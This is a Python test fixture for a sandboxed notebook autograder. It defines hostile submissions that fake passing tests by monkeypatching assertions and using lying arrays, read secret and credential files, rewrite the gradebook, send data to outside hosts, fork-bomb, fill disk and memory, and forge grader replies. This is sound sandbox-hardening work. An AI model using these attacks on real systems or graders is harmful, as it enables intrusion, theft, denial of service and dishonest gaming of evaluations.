"""Submissions that try to cheat or break the grader, and the scratch courses they are graded in.

Every hostile notebook is a *real* unit-01 submission: the release answered with the reference,
with two gradients planted wrong (``score_and_grads``'s dW has its sign flipped and
``softmax_jacobian`` returns zeros, so an honest grader gives full marks less those two exercises'
points), plus cells
that carry the attack. An attack that worked earns points: each one calls ``_won(...)`` when it
gets what it was after, which puts the right ``score_and_grads`` in place (+ that exercise's points). Each attack ends
by raising an ``ATTACK-REPORT {json}`` error, which the grader records among the notebook's
problems: the tests read it to know the attack really ran and what it met.

Placeholders ``@NAME@`` in the attack sources are filled in by :func:`attack_cells`.
"""
import atexit
import hashlib
import json
import os
import re
import shutil
import tempfile
from pathlib import Path

import nbformat

from grading.course import REPO
from tests.submissions import COURSE, answered, make_course

UNIT = "01_matrix_calculus"
NOTEBOOK = COURSE.unit(UNIT).notebooks[0].path.name
POINTS = {exercise.grade_id: exercise.points for exercise in COURSE.unit(UNIT).exercises}
FULL = COURSE.unit(UNIT).max_score

FLIP_DW = ("np.outer(x, delta)", "-np.outer(x, delta)")
ZERO_SOFTMAX_JACOBIAN = ("np.diag(p) - np.outer(p, p)", "np.zeros((p.size, p.size))")
WRONG_PLANTS = [FLIP_DW, ZERO_SOFTMAX_JACOBIAN]
WRONG_SCORE = FULL - POINTS["test_score_and_grads"] - POINTS["test_softmax_jacobian"]

_pristine = None


def course(dest):
    """A scratch nbgrader course for unit 01 at `dest` (generated once per test run, then copied)."""
    global _pristine
    if _pristine is None:
        scratch = Path(tempfile.mkdtemp(prefix="pristine-course-"))
        atexit.register(shutil.rmtree, scratch, True)
        make_course(scratch, [UNIT])
        _pristine = scratch
    dest = Path(dest)
    shutil.copytree(_pristine, dest, dirs_exist_ok=True)
    return dest


def bare_course_at(root):
    """A course folder at `root` with unit 01's sources and nothing released, submitted or graded."""
    unit = COURSE.unit(UNIT)
    shutil.copytree(unit.solution_folder, Path(root) / unit.solution_folder.relative_to(COURSE.root))
    shutil.copy(COURSE.root / "nbgrader_config.py", root)
    return Path(root)


def notebook(plants=(), cells=(), markdown=()):
    """The answered release with `plants` ((old, new) substitutions) and extra cells appended."""
    nb = answered(UNIT, NOTEBOOK, replace=plants)
    nb.cells.extend(nbformat.v4.new_markdown_cell(text) for text in markdown)
    nb.cells.extend(nbformat.v4.new_code_cell(source) for source in cells)
    return nb


def wrong(*cells):
    """The planted-wrong submission (worth WRONG_SCORE), with `cells` appended."""
    return notebook(WRONG_PLANTS, cells)


def submit_notebook(root, student, nb, name=NOTEBOOK):
    folder = Path(root) / COURSE.submitted.name / student / UNIT
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, folder / name)
    return folder / name


def submit_bytes(root, student, data, name=NOTEBOOK):
    folder = Path(root) / COURSE.submitted.name / student / UNIT
    folder.mkdir(parents=True, exist_ok=True)
    (folder / name).write_bytes(data if isinstance(data, bytes) else data.encode())
    return folder / name


def report(record):
    """The ATTACK-REPORT an attack cell raised, as a dict, or None when it never ran."""
    for problem in record["problems"]:
        if "ATTACK-REPORT " in problem:
            text = problem.split("ATTACK-REPORT ", 1)[1].rsplit(" (in ", 1)[0]
            return json.loads(text)
    return None


def tree_digest(folder, skip=()):
    """{relative path: sha256} of every file under `folder`, leaving out paths under `skip`."""
    folder = Path(folder)
    digests = {}
    for path in sorted(folder.rglob("*")):
        relative = path.relative_to(folder).as_posix()
        if any(relative == s or relative.startswith(s + "/") for s in skip):
            continue
        if path.is_symlink():
            digests[relative] = "symlink:" + os.readlink(path)
        elif path.is_file():
            digests[relative] = hashlib.sha256(path.read_bytes()).hexdigest()
    return digests


# ---------------------------------------------------------------------------------------------
# The attacks. PRELUDE runs first (its own cell); each attack is one more cell after it.

PRELUDE = r'''
import json, os, sys
import numpy as np
ATTACK = {"ran": []}

def _won(what):
    """What a successful attack earns: the right dW, so test_score_and_grads' points."""
    ATTACK.setdefault("WON", []).append(str(what)[:200])
    global score_and_grads
    def score_and_grads(x, W, b, u):
        h = sigmoid(x @ W + b)
        delta = u * h * (1 - h)
        return float(u @ h), W @ delta, np.outer(x, delta), delta

def _note(key, value):
    ATTACK[key] = value if isinstance(value, (int, float, bool)) or value is None else str(value)[:160]

def _report():
    text = json.dumps(ATTACK, default=repr)
    if len(text) > 1700:
        text = json.dumps({k: (v if len(json.dumps(v, default=repr)) < 200 else str(v)[:200])
                           for k, v in ATTACK.items()}, default=repr)[:1700]
    raise RuntimeError("ATTACK-REPORT " + text)

def _errno(error):
    import errno as _e
    code = getattr(error, "errno", None)
    return _e.errorcode.get(code, type(error).__name__) if code else type(error).__name__
'''

ATTACKS = {}

# 1. Test-semantics subversion: monkeypatch numpy, numpy.testing, builtins, doctest, the course's
#    assertion helpers and checker, in the student's own interpreter.
ATTACKS["patch-numpy"] = r'''
import builtins, doctest, numpy.testing, utils, utils.testing, utils.gradcheck
np.testing.assert_allclose = lambda *a, **k: None
np.testing.assert_array_almost_equal = lambda *a, **k: None
numpy.testing.assert_equal = lambda *a, **k: None
np.allclose = lambda *a, **k: True
np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
np.array_equal = lambda *a, **k: True
builtins.AssertionError = type("AssertionError", (Exception,), {})
doctest.DocTestRunner.summarize = lambda self, verbose=None: doctest.TestResults(0, 0)

class _Passed:
    passed = True
    def assert_ok(self): return self
    def __bool__(self): return True
for module in (utils, utils.gradcheck):
    module.check_gradients = lambda *a, **k: _Passed()
utils.testing.assert_close = lambda *a, **k: None
utils.testing.assert_shape = lambda value, *a, **k: value
check_gradients = lambda *a, **k: _Passed()
assert_close = lambda *a, **k: None
assert_shape = lambda value, *a, **k: value
ATTACK["ran"].append("patched numpy, builtins, doctest, utils")
_report()
'''

# Shadow the setup cell's helpers after it ran, so that in-notebook tests would call a lenient copy.
ATTACKS["shadow-helpers"] = r'''
def softmax(z):
    return np.full(np.shape(z), 1.0 / np.size(z))
def sigmoid(z):
    return np.zeros_like(z)
class _Passed:
    passed = True
    def assert_ok(self): return self
def check_gradients(*args, **kwargs):
    return _Passed()
def assert_close(*args, **kwargs):
    return None
def assert_shape(value, *args, **kwargs):
    return value
def numeric_grad(f, x, *args, **kwargs):
    return np.zeros_like(x)
ATTACK["ran"].append("shadowed softmax, sigmoid, check_gradients, assert_close, assert_shape")
_report()
'''

# IPython: an input transformer that blanks every later cell (the test cells among them), a custom exception
# handler, showtraceback, events, system calls.
ATTACKS["ipython-hooks"] = r'''
results = {}
def _try(name, action):
    try:
        action()
        results[name] = "done"
    except BaseException as error:
        results[name] = type(error).__name__
ip = get_ipython()
_try("input_transformers_cleanup", lambda: ip.input_transformers_cleanup.append(lambda lines: ["pass\n"]))
_try("input_transformers_post", lambda: ip.input_transformers_post.append(lambda lines: ["pass\n"]))
_try("set_custom_exc", lambda: ip.set_custom_exc((BaseException,), lambda *a, **k: None))
_try("showtraceback", lambda: setattr(ip, "showtraceback", lambda *a, **k: None))
_try("events", lambda: ip.events.register("post_run_cell", lambda *a: None))
_try("system", lambda: ip.system("cat ../../../gradebook.db > stolen.txt"))
_try("run_cell", lambda: setattr(ip, "run_cell", lambda *a, **k: None))
try:
    import IPython.core.interactiveshell as _shell
    _shell.InteractiveShell.showtraceback = lambda *a, **k: None
    results["class_showtraceback"] = "done"
except BaseException as error:
    results["class_showtraceback"] = type(error).__name__
ATTACK["ipython"] = results
ATTACK["ran"].append("ipython hooks")
_report()
'''

# Tracing and audit hooks: try to rewrite what any frame returns, suppress every exception.
ATTACKS["trace-hooks"] = r'''
import threading
def _tracer(frame, event, arg):
    if event == "exception":
        return None
    if event == "return" and frame.f_code.co_name.startswith(("hidden_test", "check", "assert")):
        frame.f_locals["passed"] = True
    return _tracer
sys.settrace(_tracer)
threading.settrace(_tracer)
sys.setprofile(lambda frame, event, arg: None)
def _audit(event, args):
    if event in ("os.system", "subprocess.Popen"):
        raise RuntimeError("blocked")
sys.addaudithook(_audit)
sys.excepthook = lambda *a: None
ATTACK["ran"].append("settrace, setprofile, audit hook, excepthook")
_report()
'''

# Returned objects that lie: an ndarray subclass whose comparisons, arithmetic and __array__ claim
# a match, a scalar subclass, and an object that only pretends to be an array.
ATTACKS["lying-ndarray"] = r'''
class Liar(np.ndarray):
    def __eq__(self, other): return np.ones(np.broadcast(np.asarray(self), other).shape, dtype=bool)
    def __ne__(self, other): return np.zeros(np.broadcast(np.asarray(self), other).shape, dtype=bool)
    def __sub__(self, other): return np.zeros(np.broadcast(np.asarray(self), other).shape)
    def __rsub__(self, other): return np.zeros(np.broadcast(np.asarray(self), other).shape)
    def __abs__(self): return np.zeros(self.shape)
    def __lt__(self, other): return np.ones(self.shape, dtype=bool)
    def __le__(self, other): return np.ones(self.shape, dtype=bool)
    def __gt__(self, other): return np.zeros(self.shape, dtype=bool)
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(np.shape(np.asarray(inputs[0])))
    def __array_function__(self, func, types, args, kwargs): return True
    def __float__(self): return 0.0
    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape)

class LyingFloat(np.float64):
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0

_sg = score_and_grads
def score_and_grads(x, W, b, u):
    s, dx, dW, db = _sg(x, W, b, u)
    return LyingFloat(s), dx.view(Liar), dW.view(Liar), db.view(Liar)

def softmax_jacobian(z):
    return np.zeros((len(z), len(z))).view(Liar)
ATTACK["ran"].append("lying ndarray subclass")
_report()
'''

ATTACKS["lying-shape"] = r'''
class FakeArray:
    """Claims every shape and dtype, equals everything, converts to whatever is asked."""
    dtype = np.dtype(np.float64)
    ndim = 2
    def __init__(self, k): self.shape, self.size = (k, k), k * k
    def __array__(self, dtype=None, copy=None): return np.zeros(self.shape)
    def __eq__(self, other): return True
    def __sub__(self, other): return 0.0
    def __rsub__(self, other): return 0.0
    def __len__(self): return self.shape[0]
    def __getitem__(self, i): return np.zeros(self.shape[1])
    def __float__(self): return 0.0
    def __reduce__(self): return (os.system, ("touch /tmp/@MARKER@-unpickled",))

def softmax_jacobian(z):
    return FakeArray(len(z))

_sg = score_and_grads
def score_and_grads(x, W, b, u):
    s, dx, dW, db = _sg(x, W, b, u)
    return s, dx, FakeArray(2), db
ATTACK["ran"].append("object lying about shape, with a pickle payload")
_report()
'''

# Non-finite answers: a check that compares with `err > tol` lets NaN through.
ATTACKS["nan-answers"] = r'''
def softmax_jacobian(z):
    return np.full((len(z), len(z)), np.nan)
_sg = score_and_grads
def score_and_grads(x, W, b, u):
    s, dx, dW, db = _sg(x, W, b, u)
    return s, dx, np.full(dW.shape, np.nan), db
ATTACK["ran"].append("nan answers")
_report()
'''

# 3. Exfiltration: the gradebook, the solutions, other submissions, the instructor's files and
#    environment, found by relative paths, absolute paths and by walking the whole file system.
ATTACKS["read-secrets"] = r'''
import glob
NEEDLE = "@CANARY_A@" + "@CANARY_B@"
ROOT, REPO = "@ROOT@", "@REPO@"
read_ok, errors, found = [], {}, []

def _read(path, forbidden=False):
    """Read `path`; a forbidden path must not be readable at all, any other must not hold the canary."""
    try:
        if os.path.realpath(path).startswith("/sandbox"):
            return
    except OSError:
        pass
    try:
        with open(path, "rb") as f:
            data = f.read(50_000_000)
    except OSError as error:
        errors[_errno(error)] = errors.get(_errno(error), 0) + 1
        return
    read_ok.append(path)
    if forbidden or NEEDLE.encode() in data:
        found.append(path)

targets = []
for depth in range(1, 8):
    up = "../" * depth
    targets += [up + "gradebook.db", up + "solutions/@UNIT@/@NOTEBOOK@", up + "instructor-notes.txt",
                up + "submitted/ctl-honest/@UNIT@/@NOTEBOOK@", up + "nbgrader_config.py"]
targets += [ROOT + "/gradebook.db", ROOT + "/solutions/@UNIT@/@NOTEBOOK@", ROOT + "/instructor-notes.txt",
            ROOT + "/submitted/ctl-honest/@UNIT@/@NOTEBOOK@", ROOT + "/assignments/@UNIT@/@NOTEBOOK@",
            REPO + "/solutions/@UNIT@/@NOTEBOOK@", REPO + "/nbgrader_config.py",
            "/proc/1/environ", "/proc/1/root" + ROOT + "/gradebook.db", "/proc/1/cwd/gradebook.db",
            "/etc/shadow", "/etc/passwd", "/root/.bash_history"]
for path in targets:
    _read(path, forbidden=True)
for pattern in ["../*", "../../*", "/*/*.ipynb", "/*/*/*.ipynb", "/*/*/*/*.ipynb", "/tmp/*", ROOT + "/*"]:
    for path in glob.glob(pattern):
        if os.path.isfile(path):
            _read(path, forbidden=pattern.startswith(ROOT))
# Everything but the system, the (known, read-only) Python installation and the notebook's own folder.
skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sandbox", sys.prefix, sys.base_prefix,
        os.path.realpath(sys.base_prefix)}
walked = 0
for folder, dirs, files in os.walk("/"):
    walked += 1
    dirs[:] = [d for d in dirs if os.path.join(folder, d) not in skip]
    for name in files:
        if name.endswith((".ipynb", ".db", ".sqlite", ".csv", ".txt")) and not name.startswith("LICENSE"):
            path = os.path.join(folder, name)
            if os.path.getsize(path) < 50_000_000:
                _read(path)
environment = [dict(os.environ)]
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            environment.append(open(f"/proc/{pid}/environ", "rb").read().decode(errors="replace"))
        except OSError as error:
            errors["environ:" + _errno(error)] = 1
if NEEDLE in repr(environment):
    found.append("environment")
ATTACK["walked_dirs"] = walked
ATTACK["read_ok_count"] = len(read_ok)
ATTACK["read_ok_sample"] = sorted(read_ok)[:5]
ATTACK["errors"] = errors
ATTACK["found"] = found[:10]
if found:
    _won(found)
ATTACK["ran"].append("read secrets")
_report()
'''

# 2. Grade-store tampering with sqlite3, by relative and absolute paths.
ATTACKS["sqlite-gradebook"] = r'''
import sqlite3
ROOT = "@ROOT@"
outcomes = {}
for path in ["../../../gradebook.db", "../gradebook.db", ROOT + "/gradebook.db", "/proc/1/root" + ROOT + "/gradebook.db"]:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
        db.execute("UPDATE grade SET manual_score = 4, needs_manual_grade = 0")
        db.commit()
        outcomes[path] = "UPDATED"
        _won(path)
    except Exception as error:
        outcomes[path] = f"{type(error).__name__}: {error}"[:80]
ATTACK["sqlite"] = outcomes
ATTACK["ran"].append("sqlite gradebook")
_report()
'''

# Delayed writes from processes that outlive the notebook: a new session (Popen), a double fork
# with setsid, and a thread. Each sleeps, then tries to rewrite the gradebook and the records.
DELAYED_WRITER = r'''
import os, sqlite3, time, json
time.sleep(@DELAY@)
for attempt in range(40):
    for path in ["@ROOT@/gradebook.db", "../../../gradebook.db"]:
        try:
            db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1)
            db.execute("UPDATE grade SET auto_score = 4, manual_score = 4, needs_manual_grade = 0")
            db.commit()
        except Exception:
            pass
    for path in ["@ROOT@/graded/@UNIT@/@STUDENT@/01_matrix_calculus.json", "@ROOT@/grades.csv",
                 "@ROOT@/graded/@UNIT@/flags.txt", "/tmp/@MARKER@"]:
        try:
            with open(path, "w") as f:
                f.write(json.dumps({"score": 12, "max_score": 12, "marker": "@MARKER@"}))
        except Exception:
            pass
    time.sleep(0.25)
'''

ATTACKS["detached-writer"] = r'''
import subprocess, threading
CODE = @WRITER@
spawned = {}
try:
    child = subprocess.Popen([sys.executable, "-c", CODE, "@MARKER@"], start_new_session=True,
                             stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    spawned["popen"] = child.pid
except Exception as error:
    spawned["popen"] = repr(error)
try:
    pid = os.fork()
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                for fd in range(3, 256):
                    try:
                        os.close(fd)
                    except OSError:
                        pass
                os.execv(sys.executable, [sys.executable, "-c", CODE, "@MARKER@"])
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    spawned["double_fork"] = pid
except Exception as error:
    spawned["double_fork"] = repr(error)
threading.Thread(target=exec, args=(CODE, {}), daemon=True).start()
ATTACK["spawned"] = spawned
ATTACK["ran"].append("detached writers")
_report()
'''

# 3. Network: the host's loopback (a TCP listener and an abstract unix socket the test opened),
#    a public address, DNS.
ATTACKS["network"] = r'''
import socket, time
outcomes = {}
def _connect(name, family, address, kind=socket.SOCK_STREAM):
    started = time.monotonic()
    try:
        s = socket.socket(family, kind)
        s.settimeout(3)
        s.connect(address)
        s.sendall(b"stolen")
        outcomes[name] = "CONNECTED"
        _won(name)
    except OSError as error:
        outcomes[name] = _errno(error)
    outcomes[name + "_seconds"] = round(time.monotonic() - started, 2)
_connect("loopback_tcp", socket.AF_INET, ("127.0.0.1", @PORT@))
_connect("abstract_unix", socket.AF_UNIX, "\0@ABSTRACT@")
_connect("public_tcp", socket.AF_INET, ("8.8.8.8", 53))
_connect("public_tcp6", socket.AF_INET6, ("2001:4860:4860::8888", 53))
try:
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("8.8.8.8", 53))
    outcomes["public_udp"] = "SENT"
    _won("udp")
except OSError as error:
    outcomes["public_udp"] = _errno(error)
try:
    outcomes["dns"] = socket.getaddrinfo("example.com", 80)[0][4][0]
    _won("dns")
except OSError as error:
    outcomes["dns"] = type(error).__name__
ATTACK["network"] = outcomes
ATTACK["ran"].append("network")
_report()
'''

# 4. A fork bomb, bounded so that it cannot hurt a machine without the process limit.
ATTACKS["fork-bomb"] = r'''
import time
forks, error = 0, None
for _ in range(10000):
    try:
        pid = os.fork()
    except OSError as exc:
        error = _errno(exc)
        break
    if pid == 0:
        time.sleep(120)
        os._exit(0)
    forks += 1
ATTACK["forks"] = forks
ATTACK["fork_error"] = error
ATTACK["ran"].append("fork bomb")
_report()
'''

# 7. Interfere with other submissions and the grader's files: overwrite, delete, create.
ATTACKS["other-submissions"] = r'''
ROOT = "@ROOT@"
outcomes = {}
blank = json.dumps({"cells": [], "nbformat": 4, "nbformat_minor": 5, "metadata": {}})
targets = ["../ctl-honest.ipynb", "../../ctl-honest/@UNIT@/@NOTEBOOK@", "/@MARKER@",
           ROOT + "/submitted/ctl-honest/@UNIT@/@NOTEBOOK@", ROOT + "/submitted/ctl-wrong/@UNIT@/@NOTEBOOK@",
           ROOT + "/graded/@UNIT@/ctl-honest/01_matrix_calculus.json", ROOT + "/solutions/@UNIT@/@NOTEBOOK@",
           ROOT + "/@MARKER@", "@REPO@/utils/@MARKER@.py", "@REPO@/grading/verdict.py"]
import glob
targets += [p for pattern in ("../*", "../../*", "../../../*") for p in glob.glob(pattern)
            if os.path.isfile(p) and not os.path.realpath(p).startswith("/sandbox")]
for path in targets:
    try:
        with open(path, "a" if os.path.exists(path) else "w") as f:
            f.write(blank)
        outcomes[path] = "WROTE"
        _won(path)
    except OSError as error:
        outcomes[path] = _errno(error)
for path in [ROOT + "/submitted/ctl-honest", "../", "/tmp"]:
    try:
        os.chmod(path, 0o777)
        outcomes["chmod " + path] = "DONE"
        _won("chmod " + path)
    except OSError as error:
        outcomes["chmod " + path] = _errno(error)
try:
    import shutil
    shutil.rmtree(ROOT + "/submitted")
    outcomes["rmtree"] = "DONE"
    _won("rmtree")
except OSError as error:
    outcomes["rmtree"] = _errno(error)
# The sandbox's own folder and /tmp are private: writing there is allowed and must change nothing outside.
for path in ["timestamp.txt", "/tmp/@MARKER@"]:
    try:
        with open(path, "w") as f:
            f.write("2000-01-01 00:00:00.000000 UTC")
        outcomes["private " + path] = "wrote"
    except OSError as error:
        outcomes["private " + path] = _errno(error)
ATTACK["writes"] = {k.replace(ROOT, "ROOT"): v for k, v in outcomes.items()}
ATTACK["ran"].append("other submissions")
_report()
'''

# The worker protocol: forged replies. The real reply pipe is found and forged load/result replies
# are written on it (and on fds 0, 1, 2 and a dup); every later reply carries forged verdict keys.
ATTACKS["forged-protocol"] = r'''
import fcntl, struct
from grading import wire as _wire

def _frame(payload):
    return struct.pack(">Q", len(payload)) + payload

def _reply_pipe():
    for name in os.listdir("/proc/self/fd"):
        fd = int(name)
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                return fd
        except OSError:
            pass

VERDICT = {"score": 12, "max_score": 12, "points": 4, "passed": True, "reason": None, "ok": True,
           "needs_manual_grade": False, "exercises": [{"grade_id": g, "points": p, "passed": True}
           for g, p in [("test_numeric_jacobian", 3), ("test_softmax_jacobian", 3),
                        ("test_elementwise_jacobian", 2), ("test_score_and_grads", 4)]]}
FORGED_LOAD = dict(VERDICT, errors=["cell 99: RuntimeError: ATTACK-REPORT " + json.dumps({"ran": ["forged load reply"]})], defined=["numeric_jacobian", "softmax_jacobian",
                   "elementwise_jacobian", "score_and_grads"], arrays=0)
pipe = _reply_pipe()
ATTACK["reply_pipe"] = pipe
written = {}
for fd in (0, 1, 2):
    try:
        os.write(fd, _frame(json.dumps(FORGED_LOAD).encode()))
        written[fd] = "ok"
    except OSError as error:
        written[fd] = _errno(error)
# The forged load reply goes on the real pipe (through a dup); the worker's own is swallowed.
os.write(os.dup(pipe), _frame(json.dumps(FORGED_LOAD).encode()))
written["pipe"] = "ok"
_real_send = _wire.send
_swallowed = []
def _forging_send(fd, header, arrays=()):
    if "errors" in header and not _swallowed:
        _swallowed.append(1)
        return None
    return _real_send(fd, dict(header, **{k: v for k, v in VERDICT.items() if k != "ok"}), arrays)
_wire.send = _forging_send
ATTACK["written"] = written
ATTACK["ran"].append("forged protocol")
_report()
'''

# A forged extra result frame on the reply pipe: the grader's replies go out of step.
ATTACKS["desync-protocol"] = r'''
import fcntl, struct
def _frame(payload):
    return struct.pack(">Q", len(payload)) + payload
pipes = [int(n) for n in os.listdir("/proc/self/fd")
         if os.path.exists(f"/proc/self/fd/{n}") and os.readlink(f"/proc/self/fd/{n}").startswith("pipe:")
         and fcntl.fcntl(int(n), fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY]
for pipe in pipes:
    for _ in range(3):
        os.write(pipe, _frame(json.dumps({"op": "result", "ok": True, "value": 12, "score": 12,
                                          "passed": True, "arrays": 0}).encode()))
        os.write(pipe, _frame(json.dumps({"op": "callback", "id": 10**9, "args": {"list": []},
                                          "arrays": 0}).encode()))
    os.write(pipe, b"\xff" * 64)
ATTACK["pipes"] = pipes
ATTACK["ran"].append("desync protocol")
_report()
'''

# Holes found while writing these tests (now guarded by regression tests in test_engine_hostile.py).

# A symlink in the scratch folder: when the grader restarted the student's process it chowned the
# scratch folder's files as root, following symlinks, so any host file changed owner.
ATTACKS["symlink-chown"] = r'''
os.symlink("@VICTIM@", "innocent.txt")
def softmax_jacobian(z):
    os._exit(3)  # the grader restarts the process for the next exercise
ATTACK["ran"].append("symlink to a host file, then exit")
_report()
'''

# The load reply is the untrusted worker's: its "errors" became the record's problems uncapped.
ATTACKS["bloat-problems"] = r'''
from grading import wire as _wire
_real_send = _wire.send
def _bloating_send(fd, header, arrays=()):
    if "errors" in header:
        header = dict(header, errors=list(header["errors"]) + ["x" * 150_000 + str(i) for i in range(20)])  # under the 4 MiB header cap
    return _real_send(fd, header, arrays)
_wire.send = _bloating_send
ATTACK["ran"].append("bloat problems")
_report()
'''

# A reply announcing 10,000 arrays of up to 64 MiB each: the trusted side buffered them all.
ATTACKS["huge-reply"] = r'''
import fcntl, io, struct, time
def softmax_jacobian(z):
    def frame(payload):
        return struct.pack(">Q", len(payload)) + payload
    pipe = [int(n) for n in os.listdir("/proc/self/fd")
            if os.path.exists(f"/proc/self/fd/{n}") and os.readlink(f"/proc/self/fd/{n}").startswith("pipe:")
            and fcntl.fcntl(int(n), fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY][0]
    buffer = io.BytesIO()
    np.save(buffer, np.ones(8 * 2**20 - 4096))
    block = frame(buffer.getvalue())
    os.write(pipe, frame(json.dumps({"op": "result", "ok": True, "value": {"array": 0}, "arrays": 10000}).encode()))
    for _ in range(@HUGE_BLOCKS@):
        view = memoryview(block)
        while view:
            view = view[os.write(pipe, view):]
    time.sleep(600)
ATTACK["ran"].append("huge reply")
_report()
'''

# Many files of just under the per-file limit: the scratch folder had no total quota.
ATTACKS["disk-fill"] = r'''
written = 0
block = b"\0" * (@FILE_BYTES@ - 4096)
for i in range(@FILL_FILES@):
    try:
        with open(f"fill{i}.bin", "wb") as f:
            f.write(block)
        written += len(block)
    except OSError as error:
        ATTACK["stopped_by"] = _errno(error)
        break
ATTACK["written_mib"] = written // 2**20
ATTACK["ran"].append("disk fill")
_report()
'''


# SysV shared memory outlives the process that made it, so no per-process limit counts it: held
# 3 GiB under a 2 GiB limit until the sandbox's IPC namespace allowed no segment at all.
ATTACKS["sysv-shm"] = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
held = 0
for kind, make in (("msgget", lambda: libc.msgget(0, 0o1600)), ("semget", lambda: libc.semget(0, 1, 0o1600)),
                   ("shmget", lambda: libc.shmget(0, 256 * 2**20, 0o1600))):
    made = make()
    ATTACK[kind] = "made" if made >= 0 else _errno(OSError(ctypes.get_errno(), ""))
while ATTACK["shmget"] == "made" and held < @MEMORY_MIB@ + 1024:
    segment = libc.shmget(0, 256 * 2**20, 0o1600)
    address = libc.shmat(segment, None, 0)
    if segment < 0 or address in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(address, 1, 256 * 2**20)
    libc.shmdt(ctypes.c_void_p(address))
    held += 256
ATTACK["held_mib"] = held
if held > @MEMORY_MIB@:
    _won(f"{held} MiB of shared memory under a {@MEMORY_MIB@} MiB limit")
ATTACK["ran"].append("sysv shm")
_report()
"""

# Memory the kernel holds for the sandbox outside every process's own limit: two children each
# under the address-space limit, and then 400,000 empty files (inodes cost kernel memory, and the
# memory file systems capped only the bytes of files). Wins when all of it is held at once.
ATTACKS["memory-outside-the-process"] = r"""
import signal, time
ballast = int(@MEMORY_MIB@ * 0.45) * 2**20
children, ready = [], os.pipe()
for _ in range(2):
    pid = os.fork()
    if pid == 0:
        block = np.ones(ballast // 8)
        os.write(ready[1], b"!")
        time.sleep(60)
        os._exit(0)
    children.append(pid)
for _ in children:
    os.read(ready[0], 1)
files = 0
for folder in ("/tmp", "."):
    try:
        for i in range(@FLOOD_FILES@ // 2):
            open(f"{folder}/f{i}", "w").close()
            files += 1
    except OSError as error:
        ATTACK["stopped_by"] = _errno(error)
alive = [pid for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0)]
ATTACK.update(files=files, children_alive=len(alive))
if files == @FLOOD_FILES@ and len(alive) == 2:
    _won(f"{2 * ballast // 2**20} MiB in two processes and {files} files under a {@MEMORY_MIB@} MiB limit")
for pid in alive:
    os.kill(pid, signal.SIGKILL)
ATTACK["ran"].append("memory outside the process")
_report()
"""

# What the sandbox's process 1 was started with: it used to name the host's scratch folder.
ATTACKS["proc-cmdline"] = r"""
with open("/proc/1/cmdline", "rb") as f:
    ATTACK["cmdline"] = f.read().replace(b"\0", b" ").decode(errors="replace")[-1000:]
ATTACK["ran"].append("proc cmdline")
_report()
"""

# Calls the trusted function it is given the wrong way and reports the error it gets back: that
# error used to name the hidden check's own functions. It costs the student this exercise.
ATTACKS["probe-check-names"] = r"""
def numeric_jacobian(f, x):
    try:
        f(x, x)
    except Exception as error:
        raise RuntimeError("ATTACK-PROBE " + str(error)) from None
    raise RuntimeError("ATTACK-PROBE the call went through")
"""

# Asks the grader to evaluate the function it was given, then dies before reading the answer: the
# student was once told "AttributeError: 'NoneType' object has no attribute 'stdin'".
ATTACKS["dies-mid-callback"] = r"""
def numeric_jacobian(f, x):
    import grading.wire
    grading.wire.recv = lambda *args, **kwargs: os._exit(3)
    return f(x)
"""

def attack_cells(name, **values):
    """[prelude, attack] cell sources for attack `name`, with the @PLACEHOLDERS@ filled in."""
    source = ATTACKS[name]
    values = dict(values, UNIT=UNIT, NOTEBOOK=NOTEBOOK, REPO=str(REPO))
    if "@WRITER@" in source:
        writer = DELAYED_WRITER
        for key, value in values.items():
            writer = writer.replace(f"@{key}@", str(value))
        source = source.replace("@WRITER@", repr(writer))
    for key, value in values.items():
        source = source.replace(f"@{key}@", str(value))
    assert not re.search(r"@[A-Z_]+@", source), f"unfilled placeholder in {name}"
    return [PRELUDE, source]
